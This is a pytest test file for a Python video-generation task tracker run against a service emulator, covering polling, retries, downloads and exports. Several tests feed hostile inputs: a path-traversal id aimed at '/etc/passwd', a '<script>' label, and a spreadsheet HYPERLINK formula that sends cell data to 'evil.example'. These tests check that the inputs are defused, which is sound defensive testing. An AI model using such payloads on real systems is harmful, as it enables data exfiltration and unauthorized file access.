"""Tracker against the emulator over real HTTP (time_scale 0.01: 30 s → 0.3 s).

Timing assertions only bound from below or poll until a generous deadline:
the machine may be slow and shared.
"""

from __future__ import annotations

import threading
import time
from pathlib import Path

import pandas as pd
import pytest

from polling import until

from veo_nb import ValidationError, _schedule
from veo_nb._engine import TokenBucket
from veo_nb import TaskFailedError, TaskStatus, TaskTimeoutError
from veo_nb._paths import video_path_in
from veo_nb.emulator import Emulator
from veo_nb.store import Store
from veo_nb.tracker import NO_VIDEO_REASON, NOT_FOUND_REASON, Tracker, generate




def pollers() -> list[threading.Thread]:
    return [t for t in threading.enumerate() if t.name.startswith("veo_nb-poller")]


@pytest.fixture
def make_tracker(tmp_path, veo_emulator):
    made: list[Tracker] = []

    def make(emulator: Emulator | None = None, **kw) -> Tracker:
        emu = emulator or veo_emulator
        kw.setdefault("store", tmp_path / "history.sqlite")
        kw.setdefault("media_dir", tmp_path / "videos")
        tr = Tracker(emu.client(), **kw)
        made.append(tr)
        return tr

    yield make
    for tr in made:
        tr.close()


def events_of(tr: Tracker, task_id: str, kind: str = "status"):
    h = tr.history()
    return h[(h.task_id == task_id) & (h.kind == kind)]


def test_status_sequence_and_download(make_tracker, veo_emulator):
    tr = make_tracker()
    task = tr.submit("a lighthouse [duration: 150]", label="lh")
    assert task.status is TaskStatus.QUEUED
    (done,) = tr.wait([task.id], timeout=30)
    assert done.status is TaskStatus.COMPLETED
    statuses = list(events_of(tr, task.id).status.astype(str))
    assert statuses == ["queued", "processing", "completed"]
    until(lambda: tr.record(task.id).download_state == "saved")
    rec = tr.record(task.id)
    assert Path(rec.video_path) == video_path_in(tr.media_dir, task.id)
    assert Path(rec.video_path).stat().st_size > 0
    assert rec.url_expires_at > rec.finished_at  # 24 h × 0.01 after the finish
    assert rec.label == "lh" and rec.request["prompt"].startswith("a lighthouse")
    assert tr.get(task.id).video_path == Path(rec.video_path)
    assert veo_emulator.stats.interval_violations == 0


def test_adaptive_schedule_keeps_the_interval(make_tracker, veo_emulator):
    tr = make_tracker()
    tasks = [tr.submit(f"t{i} [duration: {d}]") for i, d in enumerate((125, 160, 200, 290))]
    tasks.append(tr.submit("ff [duration: 200]", first_image="http://img.example/a.png"))
    tr.wait(timeout=40)
    stats = veo_emulator.stats
    assert stats.interval_violations == 0
    assert stats.polls_after_terminal == 0
    for t in tasks:
        rec = tr.record(t.id)
        assert rec.poll_count == stats.polls_by_task[t.id]
        # far fewer polls than a fixed loop (duration / interval)
        assert rec.poll_count <= 9
    assert tr.record(tasks[-1].id).mode == "first_last"


def test_learning_from_completions(make_tracker):
    tr = make_tracker()
    ids = [tr.submit(f"x{i} [duration: 125]").id for i in range(5)]
    tr.wait(ids, timeout=40)
    observed = tr._engine.observed[("veo_3_1_fast", "text")]
    assert len(observed) == 5
    low, high = tr.expected_window(ids[0])
    assert (low, high) == _schedule.learned_window((1.2, 3.0), observed)
    assert 0.6 <= low <= 3.0 and high == 3.0


def test_fail_no_video_and_unknown_id(make_tracker):
    tr = make_tracker()
    failed = tr.submit("oops [fail: boom] [duration: 130]")
    blocked = tr.submit("blocked [no-video] [duration: 130]")
    bad = tr.track("../../x")
    assert bad.status is TaskStatus.FAILED and bad.error == NOT_FOUND_REASON
    assert events_of(tr, "../../x", "poll_error").http_status.tolist() == [404]
    tr.wait([failed.id, blocked.id], timeout=30)
    assert tr.get(failed.id).error == "boom"
    b = tr.record(blocked.id)
    assert b.status is TaskStatus.FAILED and b.error == NO_VIDEO_REASON
    assert "completed" in list(events_of(tr, blocked.id).status.astype(str))
    assert b.download_state == "none"


def test_tracked_task_is_polled_at_once(make_tracker, veo_emulator):
    client = veo_emulator.client()
    created = client.create_video("elsewhere [duration: 150]")
    tr = make_tracker()
    task = tr.track(created.id, label="mine")
    assert task.status in (TaskStatus.QUEUED, TaskStatus.PROCESSING)
    assert veo_emulator.stats.polls_by_task[created.id] == 1
    assert tr.record(created.id).label == "mine"


def test_submitted_task_is_not_polled_at_once(make_tracker, veo_emulator):
    tr = make_tracker()
    task = tr.submit("fresh [duration: 200]")
    tr.refresh()
    assert veo_emulator.stats.polls_by_task.get(task.id, 0) == 0
    assert tr.next_poll_at() is not None


def test_wait_timeout_lists_unfinished(make_tracker):
    tr = make_tracker()
    slow = tr.submit("slow [duration: 290]")
    with pytest.raises(TaskTimeoutError) as info:
        tr.wait([slow.id], timeout=0.5)
    assert list(info.value.unfinished) == [slow.id]
    assert info.value.unfinished[slow.id] in ("queued", "processing")


def test_as_completed_yields_in_finishing_order(make_tracker):
    tr = make_tracker()
    late = tr.submit("late [duration: 250]")
    early = tr.submit("early [duration: 125]")
    order = [t.id for t in tr.as_completed(timeout=30)]
    assert order == [early.id, late.id]


def test_trackers_on_one_store_share_one_poller(make_tracker, tmp_path, veo_emulator):
    a = make_tracker()
    assert a.running and len(pollers()) == 1  # polling starts by itself
    a.start()
    b = make_tracker(poll_interval=0.5)  # same store file: takes over
    assert b.running and a.running and len(pollers()) == 1
    assert a.poll_interval == b.poll_interval == 0.5  # the newest settings, for both
    task = b.submit("bg [duration: 130]")
    until(lambda: a.get(task.id).is_terminal)  # the older object sees the same live state
    a.stop()  # either object pauses the one poller
    assert not b.running and not a.running
    assert len(pollers()) == 1  # the thread stays, following the store
    b.start()
    assert a.running
    b.close()  # the older tracker still holds the store
    assert not a.closed and a.running
    a.close()
    until(lambda: not pollers(), timeout=10)
    assert veo_emulator.stats.interval_violations == 0


def test_poller_survives_callback_and_dispatch_errors(make_tracker, monkeypatch):
    tr = make_tracker()
    seen: list[str] = []

    def bad(task):
        seen.append(task.status_text)
        raise RuntimeError("view bug")

    unsubscribe = tr.on_change(bad)
    tr.start()
    task = tr.submit("cb [duration: 130]")
    until(lambda: tr.record(task.id).download_state == "saved")
    assert tr.running
    assert "completed" in seen and seen[0] == "queued"
    unsubscribe()
    n = len(seen)
    tr.submit("after [duration: 130]")
    time.sleep(0.2)
    assert len(seen) == n


def test_restart_resumes_without_repolling_or_redownloading(tmp_path, veo_emulator):
    store = tmp_path / "h.sqlite"
    media = tmp_path / "v"
    first = Tracker(veo_emulator.client(), store=store, media_dir=media)
    done = first.submit("done [duration: 125]")
    running = first.submit("running [duration: 280]")
    first.wait([done.id], timeout=30)
    until(lambda: first.record(done.id).download_state == "saved")
    first.close()
    before = veo_emulator.stats
    media_requests = before.media_requests

    second = Tracker(veo_emulator.client(), store=store, media_dir=media)
    try:
        assert second.get(done.id).video_path is not None
        second.wait([running.id], timeout=30)
        until(lambda: second.record(running.id).download_state == "saved")
        after = veo_emulator.stats
        assert after.polls_by_task[done.id] == before.polls_by_task[done.id]
        assert after.media_requests == media_requests + 1
        assert after.interval_violations == 0
        # a deleted video is downloaded again by the next tracker
        Path(second.record(done.id).video_path).unlink()
    finally:
        second.close()
    third = Tracker(veo_emulator.client(), store=store, media_dir=media)
    try:
        third.refresh()
        until(lambda: third.record(done.id).download_state == "saved")
        assert Path(third.record(done.id).video_path).is_file()
    finally:
        third.close()


def test_retry_after_is_respected(make_tracker, veo_emulator, monkeypatch):
    tr = make_tracker()
    task = tr.submit("rl [duration: 200]")
    calls = {"n": 0}
    real = tr.client.get_result

    def limited(task_id, **kw):
        calls["n"] += 1
        if calls["n"] == 1:
            from veo_nb import RateLimitError
            raise RateLimitError("slow down", retry_after=1.0)
        return real(task_id, **kw)

    monkeypatch.setattr(tr.client, "get_result", limited)
    start = time.monotonic()
    tr.wait([task.id], timeout=30)
    h = events_of(tr, task.id, "poll_error")
    assert h.http_status.tolist() == [429]
    times = tr.history()
    first_error = h.observed_at.iloc[0]
    later = times[(times.task_id == task.id) & (times.kind == "status")
                  & (times.observed_at > first_error)]
    assert (later.observed_at.iloc[0] - first_error).total_seconds() >= 0.95
    assert time.monotonic() - start >= 1.0


def test_server_errors_are_recorded_and_retried(make_tracker, monkeypatch):
    from veo_nb import APIError

    tr = make_tracker()
    task = tr.submit("5xx [duration: 130]")
    real = tr.client.get_result
    calls = {"n": 0}

    def flaky(task_id, **kw):
        calls["n"] += 1
        if calls["n"] <= 2:
            raise APIError("GET: HTTP 502", status_code=502)
        return real(task_id, **kw)

    monkeypatch.setattr(tr.client, "get_result", flaky)
    tr.wait([task.id], timeout=30)
    errors = events_of(tr, task.id, "poll_error")
    assert errors.http_status.tolist() == [502, 502]
    assert errors.attempt.tolist() == [1, 2]


def test_expired_link_is_marked_expired(make_tracker, veo_emulator):
    client = veo_emulator.client()
    created = client.create_video("old [duration: 125]")
    veo_emulator.advance(veo_emulator.url_lifetime_s + 10)
    tr = make_tracker()
    task = tr.track(created.id)
    assert task.status is TaskStatus.COMPLETED
    until(lambda: tr.record(created.id).download_state == "expired")
    rec = tr.record(created.id)
    assert "expire" in rec.download_error
    assert not video_path_in(tr.media_dir, created.id).exists()


def test_generate_returns_a_saved_video(tmp_path, veo_emulator):
    tr = Tracker(veo_emulator.client(), store=tmp_path / "h.sqlite", media_dir=tmp_path / "v")
    try:
        task = generate("a fox [duration: 125]", tracker=tr, timeout=30)
        assert task.video_path is not None and task.video_path.is_file()
        with pytest.raises(TaskFailedError) as info:
            generate("bad [fail]", tracker=tr, timeout=30)
        assert info.value.task.status is TaskStatus.FAILED
    finally:
        tr.close()


def test_submit_many_reports_bad_rows(make_tracker):
    import pandas as pd

    tr = make_tracker()
    frame = pd.DataFrame({
        "prompt": ["ok one [duration: 130]", "bad res", "ok two [duration: 130]"],
        "resolution": ["720p", "8K", None],
        "label": ["a", "b", "c"],
    })
    with pytest.warns(UserWarning, match="1 of 3 rows"):
        out = tr.submit_many(frame, model="veo_3_1_fast")
    assert out["task_id"].notna().tolist() == [True, False, True]
    assert "8K" in out.loc[1, "error"]
    assert tr.record(out.loc[2, "task_id"]).label == "c"
    with pytest.warns(UserWarning, match="1 of 2 rows"):
        plain = tr.submit_many(["p1 [duration: 130]", ""], model="veo_3_1_pro")
    assert plain["error"].isna().tolist() == [True, False]


def test_gave_up_and_track_again(make_tracker):
    tr = make_tracker(give_up_after=0.7)
    task = tr.submit("forever [duration: 290]")
    with pytest.raises(TaskTimeoutError):
        tr.wait([task.id], timeout=20)
    assert len(events_of(tr, task.id, "gave_up")) == 1
    assert tr.record(task.id).error.startswith("gave up")
    tr.track(task.id)
    assert tr.record(task.id).next_poll_at is not None


def test_views_and_repr(make_tracker, tmp_path):
    tr = make_tracker()
    tr.submit("<b>html</b> & co [duration: 130]", label="<script>")
    html_text = tr._repr_html_()
    assert "<script>" not in html_text and "&lt;script&gt;" in html_text
    assert "1 queued" in repr(tr)
    assert list(tr.tasks().task_id) == [r.task_id for r in tr.records()]
    assert len(tr.summary()) == 1
    assert tr.export(tmp_path / "t.csv").is_file()
    assert tr.export(tmp_path / "h.json", what="history").is_file()


def test_documented_service_interval_is_raised(tmp_path):
    from veo_nb.client import VeoClient

    client = VeoClient("k")
    with pytest.warns(UserWarning, match="30 s"):
        tr = Tracker(client, store=tmp_path / "h.sqlite", poll_interval=5)
    assert tr.poll_interval == 30
    tr.close()


def test_video_path_of_hostile_id_stays_inside(tmp_path):
    path = video_path_in(tmp_path / "videos", "../../etc/passwd")
    assert path.parent == (tmp_path / "videos").resolve()


def test_max_requests_per_second(make_tracker, veo_emulator):
    client = veo_emulator.client()
    ids = [client.create_video(f"r{i} [duration: 200]").id for i in range(6)]
    tr = make_tracker(max_requests_per_second=10)
    start = time.monotonic()
    tr.track_many(ids)
    # a burst of 10 tokens, so 6 go at once; the bucket itself is unit-tested below
    assert time.monotonic() - start < 30
    bucket = TokenBucket(20)
    start = time.monotonic()
    for _ in range(30):
        bucket.acquire()
    assert time.monotonic() - start >= 0.45


def test_store_object_is_not_closed(tmp_path, veo_emulator):
    store = Store(tmp_path / "h.sqlite")
    tr = Tracker(veo_emulator.client(), store=store, media_dir=tmp_path / "v")
    tr.close()
    assert store.records() == []
    store.close()


def test_expected_window_follows_expected_duration_or_the_documented_estimate(make_tracker):
    documented = make_tracker()
    task = documented.submit("a quiet harbour [duration: 130]")
    assert documented.expected_window(task.id) == pytest.approx((120 * 0.01, 300 * 0.01))
    documented.close()
    custom = make_tracker(expected_duration=(2.0, 4.0))
    task = custom.submit("a quiet harbour [duration: 130]", first_image="https://img.example/a.png")
    assert custom.expected_window(task.id) == (2.0, 4.0)


def test_expected_window_of_a_record_another_process_erased_meanwhile(make_tracker):
    """The panel draws the page it read; a row erased since (another
    process's "may have been billed" entry, replaced by its real task) still
    gets its window from the record read, instead of a KeyError."""
    tr = make_tracker()
    record = tr.record(tr.submit("a quiet harbour [duration: 130]").id)
    tr.remove([record.task_id], delete=True)
    with pytest.raises(KeyError):
        tr.expected_window(record.task_id)
    assert tr.expected_window(record) == pytest.approx((120 * 0.01, 300 * 0.01))


def test_remove_untracks_or_deletes(make_tracker):
    tr = make_tracker()
    a, b, c = (tr.submit(f"r{i} [duration: 150]") for i in range(3))
    assert tr.remove([a.id, b.id]) == 2
    assert [r.task_id for r in tr.records()] == [c.id]
    assert tr.store.get(a.id).tracked is False
    tr.remove(c.id, delete=True)
    assert tr.store.get(c.id) is None
    assert c.id not in set(tr.history().task_id)
    with pytest.raises(KeyError, match="not tracked"):
        tr.remove("nope")


def test_on_change_hears_of_removals_here_and_erasures_elsewhere(make_tracker, tmp_path):
    """A view (the class dashboard's counts) learns that a task left: removed
    by this tracker, or erased from the store by another process."""
    tr = make_tracker()
    a, b = (tr.submit(f"gone {i} [duration: 150]") for i in range(2))
    heard: list[str] = []
    tr.on_change(lambda task: heard.append(task.id))
    tr.remove([a.id])
    assert a.id in heard
    elsewhere = Store(tmp_path / "history.sqlite")  # another process's connection
    try:
        elsewhere.delete([b.id])
    finally:
        elsewhere.close()
    until(lambda: b.id in heard, timeout=20)
    assert tr.records() == []


def test_worker_errors_become_events_without_flooding(make_tracker, monkeypatch):
    tr = make_tracker()
    task = tr.submit("boom [duration: 150]")

    def broken(task_id, task):
        raise ZeroDivisionError("a bug in applying a poll")

    monkeypatch.setattr(tr._engine.polls, "_on_answer", broken)
    tr.start()
    until(lambda: tr.recent_errors(), timeout=20)
    time.sleep(1.0)  # several more polls fail the same way
    errors = tr.recent_errors()
    assert len(errors) == 1 and errors[0].task_id == task.id and errors[0].kind == "error"
    assert "ZeroDivisionError: a bug in applying a poll" in errors[0].detail
    h = tr.history()
    assert list(h[h.kind == "error"].task_id) == [task.id]


def test_csv_export_defuses_formulas_other_formats_stay_exact(make_tracker, tmp_path):
    import csv
    import json

    tr = make_tracker()
    prompt = '=HYPERLINK("http://evil.example/?x="&A1,"click") [fail: =1+2 went wrong] [duration: 130]'
    task = tr.submit(prompt, label="@SUM(1+1)")
    tr.submit("-negative thinking [duration: 130]", label="+plus")
    tr.wait(timeout=30)
    with open(tr.export(tmp_path / "t.csv"), newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    row = next(r for r in rows if r["task_id"] == task.id)
    assert row["prompt"] == "'" + prompt and row["label"] == "'@SUM(1+1)"
    assert row["error"] == "'=1+2 went wrong"
    assert {r["label"] for r in rows} == {"'@SUM(1+1)", "'+plus"}
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
    frame = tr.tasks()
    assert frame.loc[frame.task_id == task.id, "prompt"].item() == prompt
    records = json.loads(tr.export(tmp_path / "t.json").read_text())
    assert next(r for r in records if r["task_id"] == task.id)["label"] == "@SUM(1+1)"
    parquet = pd.read_parquet(tr.export(tmp_path / "t.parquet"))
    assert parquet.loc[parquet.task_id == task.id, "error"].item() == "=1+2 went wrong"


def test_finished_tasks_leave_memory_and_are_read_from_the_store(make_tracker):
    """A long history costs nothing in memory: once a task is finished and its
    video saved, the tracker holds it no more; every view still reads it."""
    tr = make_tracker()
    done = [tr.submit(f"done {i} [duration: 125]", label=f"d{i}") for i in range(3)]
    bad = tr.submit("bad [fail: no]")
    running = tr.submit("long [duration: 5000]")
    tr.wait([t.id for t in done + [bad]], timeout=40)
    until(lambda: {r.task_id for r in tr.live_records()} == {running.id})
    for t in done:
        rec = tr.record(t.id)
        assert rec.download_state == "saved" and Path(rec.video_path).is_file()
        assert tr.get(t.id).video_path == Path(rec.video_path)
    assert [t.status for t in tr.wait([t.id for t in done], timeout=5)] == [TaskStatus.COMPLETED] * 3
    assert len(tr.records()) == 5 and len(tr.tasks()) == 5
    assert "5 tasks (3 completed, 1 failed, 1 " in repr(tr)
    # filters, answered by the store
    assert set(tr.tasks(status="completed").task_id) == {t.id for t in done}
    assert set(tr.tasks(status=["failed", "queued", "processing"]).task_id) == {bad.id, running.id}
    assert list(tr.tasks(limit=2).task_id) == [bad.id, running.id]
    assert tr.tasks(since="2000-01-01").shape[0] == 5 and tr.tasks(since=time.time() + 60).empty
    assert len(tr.tasks(owner=tr.owner)) == 5 and tr.tasks(owner="nobody else").empty
    with pytest.raises(ValidationError, match="since must be"):
        tr.tasks(since="not a date")
    with pytest.raises(ValidationError, match="limit"):
        tr.tasks(limit=-1)
    # removing a finished task works from the store too
    assert tr.remove(done[0].id) == 1
    assert done[0].id not in set(tr.tasks().task_id)
    with pytest.raises(KeyError):
        tr.wait([done[0].id], timeout=1)


def test_on_change_hears_of_a_finished_task_another_process_erased(make_tracker, tmp_path):
    """A class dashboard counts per student on every on_change: a finished task
    (no longer held in memory) erased by the teacher's kernel must still be
    heard of, or the counts go stale."""
    tr = make_tracker()
    task = tr.submit("done [duration: 125]")
    tr.wait([task.id], timeout=40)
    until(lambda: not tr.live_records())
    heard: list[str] = []
    tr.on_change(lambda t: heard.append(t.id))
    with Store(tmp_path / "history.sqlite") as other:
        other.delete([task.id])
    tr.refresh()  # reads what other processes changed
    assert task.id in heard and tr.tasks().empty
